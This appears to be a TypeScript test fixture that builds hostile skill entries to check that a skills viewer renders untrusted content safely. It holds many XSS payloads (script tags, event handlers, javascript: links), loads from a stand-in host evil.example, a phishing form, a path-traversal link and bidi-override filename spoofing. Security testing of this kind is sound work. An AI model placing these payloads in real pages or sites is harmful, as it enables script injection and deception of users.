import { skillMd, wholeRow } from '../mcp/whole-skills.js';

/** Each would change the title of the page, open a dialog or ask another origin if it came to life. */
const SCRIPTS = [
  '<script>document.title="ran"</script>',
  '"><img src=x onerror=document.title="ran">',
  "'><svg/onload=alert(1)>",
  '</title></style></textarea></pre><script src=//evil.example/x.js></script>',
  '<a href="javascript:alert(1)">click</a>',
  '<iframe srcdoc="<script>parent.document.title=\'ran\'</script>"></iframe>',
  '<style>*{background:url(//evil.example/x.png)}</style><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
  '{{constructor.constructor("alert(1)")()}}',
];

const MARKDOWN = `# <script>document.title="ran"</script>

[click](javascript:alert(1)) [click](data:text/html,<script>alert(1)</script>) [click](vbscript:alert(1))
[click]( javascript:alert(1) ) [click](//evil.example/x) [up](../../../etc/passwd) [a](#a"onmouseover=alert(1))
![x](https://evil.example/pixel.png) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![x](x"onerror="alert(1))
<javascript:alert(1)> <https://evil.example/"onmouseover=alert(1)>
<img src=https://evil.example/y.png onerror=alert(1)> <details open ontoggle=alert(1)><summary>x</summary></details>

[ref]: javascript:alert(1)
[ref]

\`\`\`html"><script>alert(1)</script>
<script>document.title="ran"</script>
\`\`\`

| <img src=x onerror=alert(1)> | b |
| --- | --- |
| <script>alert(1)</script> | [x](javascript:alert(1)) |

<!-- --> <script>alert(1)</script> <!--
<form action=https://evil.example/><input name=q><button>Search</button></form>
<link rel=stylesheet href=https://evil.example/x.css> <style>body{display:none}</style>
<div id=q name=main class=results style="position:fixed;inset:0">covers all</div>
`;

const scripted = SCRIPTS.map((script, i) =>
  wholeRow({
    ...{ id: `hostile-${i}`, name: `hostile ${script}`, description: `Does ${script} things.` },
    ...{ author: `author${script}`, license: script, stars: i, updatedAt: 1_700_000_000 + i },
    ...{ categories: [script], occupations: [script], tags: [script], keywords: [script] },
    ...{ codehostUrl: `https://code.example/${script}`, skillUrl: 'javascript:document.title="ran"' },
    files: {
      'SKILL.md': `---\nname: "${script.replaceAll('"', '\\"')}"\n${script}: ${script}\n---\n${MARKDOWN}${script}\n`,
      [`${script.replaceAll('/', '')}.html`]: `<!doctype html>${SCRIPTS.join('\n')}`,
      'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>document.title="ran"</script></html>`,
      'sniffed.txt': `<html><script>document.title="ran"</script></html>`,
      'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="ran"</script></svg>`,
    },
  }),
);

/** More than any page shows at once: 4 MB, in lines and in one line, with marks of Markdown that nest. */
const LINES = `${'A line of text that is neither short nor long, over and over again.\n'.repeat(14_000)}\n`;
const HUGE = `# Huge\n\n${LINES}${'> '.repeat(5000)}deep\n\n${'['.repeat(20_000)}\n\n${'*a '.repeat(20_000)}\n\n${'word'.repeat(250_000)}\n`;

/** U+202E and its like, which reorder what comes after them until something ends them. */
const OVERRIDES = '\u202e\u2066\u2067\u202dgnp.exe\u200f';
const MARKS = `a${'\u0300\u0321\u035c'.repeat(200)}`;
const WORD = 'Donaudampfschifffahrtsgesellschaft'.repeat(30);
const EMOJI = '👩🏽‍🚀🏳️‍🌈🇺🇳'.repeat(20);

const strange: Readonly<Record<string, readonly [name: string, description: string, text: string]>> = {
  'strange-override': [
    `report${OVERRIDES}`,
    `Opens ${OVERRIDES} and goes on.`,
    `# ${OVERRIDES}\n\nBefore ${OVERRIDES} after\n`,
  ],
  'strange-marks': [`marks ${MARKS}`, `Stacks ${`${MARKS} `.repeat(5)}`, `# ${MARKS}\n\n${`${MARKS} `.repeat(10)}\n`],
  'strange-word': [
    WORD.slice(0, 200),
    `Knows ${WORD}`,
    `# ${WORD}\n\n${WORD}\n\n| ${WORD} | b |\n| --- | --- |\n| ${WORD} | ${WORD} |\n\n- ${WORD}\n\n    ${WORD}\n`,
  ],
  'strange-emoji': [EMOJI.slice(0, 200), `Draws ${EMOJI}`, `# ${EMOJI}\n\n${EMOJI}\n`],
  'strange-blanks': [
    `wide${'\u3000'.repeat(80)}name`,
    `Has${'\u00a0'.repeat(500)}no break`,
    `${'\u00a0'.repeat(3000)}x\n`,
  ],
  'strange-url': ['long address', 'Has a long address.', `https://code.example/${'a'.repeat(1500)}\n`],
  'strange-controls': [
    'bell\u0007 and \u001b[31mred',
    'Rings \u0007\u0000\ufeff\ufffd\ud800.',
    '\u0007\u001b[2J\u0085\u2028\u2029\n',
  ],
};

const odd = Object.entries(strange).map(([id, [name, description, text]], i) =>
  wholeRow({
    ...{ id, name, description, author: name.slice(0, 200), license: description.slice(0, 200), stars: 500 + i },
    ...{ updatedAt: 1_710_000_000 + i, categories: ['odd'], occupations: ['odd'] },
    ...{
      codehostUrl: `https://code.example/${'b'.repeat(900)}`,
      skillUrl: `https://market.example/${encodeURIComponent(name)}`,
    },
    files: {
      'SKILL.md': skillMd(id, 'odd', text),
      [`${name.replaceAll(/[/\\\p{Cc}]/gu, '').slice(0, 200)}.md`]: text,
    },
  }),
);

const huge = wholeRow({
  ...{
    id: 'strange-huge',
    name: 'huge',
    description: 'h'.repeat(4000),
    author: 'wren',
    stars: 999,
    updatedAt: 1_720_000_000,
  },
  ...{ categories: Array.from({ length: 60 }, (_, i) => `a-rather-long-category-${i}`), occupations: [] },
  files: {
    'SKILL.md': `${skillMd('huge', 'huge', HUGE)}`.slice(0, 1_000_000),
    'text-1.md': HUGE.slice(0, 1_000_000),
    'text-2.txt': HUGE.slice(-1_000_000),
    'text-3.json': `[${'[1],'.repeat(200_000)}1]`,
    ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`many/files/in/deep/folders/file-${i}.txt`, 'x'])),
  },
});

/** Skills that try to do something in a page, to cover it or to make it wider. */
export const HOSTILE_ROWS: readonly Record<string, unknown>[] = [...scripted, ...odd, huge];
